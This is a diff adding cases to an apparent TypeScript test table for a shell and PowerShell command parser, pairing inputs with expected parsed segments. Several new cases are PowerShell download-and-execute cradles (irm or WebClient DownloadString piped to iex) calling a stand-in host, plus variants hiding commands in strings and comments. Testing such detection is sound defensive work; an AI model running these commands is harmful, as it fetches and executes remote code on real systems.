@@ -76,6 +76,15 @@ const CASES: readonly Case[] = [
     '! what `Invoke-Expression` runs',
     '! what `Start-Process` runs',
   ],
+  ['irm https://x.example/i.ps1 | iex', 'irm https://x.example/i.ps1', 'iex'],
+  [
+    'iex ((New-Object System.Net.WebClient).DownloadString("https://x.example/i.ps1"))',
+    'New-Object System.Net.WebClient',
+    'iex ‹((New-Object System.Net.WebClient).DownloadString("https://…›',
+  ],
+  ['irm x; "git push" | iex', 'irm x', '! what `iex` runs'],
+  ['"git push; irm x" | iex', '! what `iex` runs'],
+  ['iex "git push" # irm x', '! what `iex` runs'],
   ['return git a; throw "x"; exit 1', 'git a'],
   [
     'sudo -E git push; npx wrangler deploy; bash -c "git push $env:BRANCH"; pwsh -Command "git a; git b"; cmd /c git c',
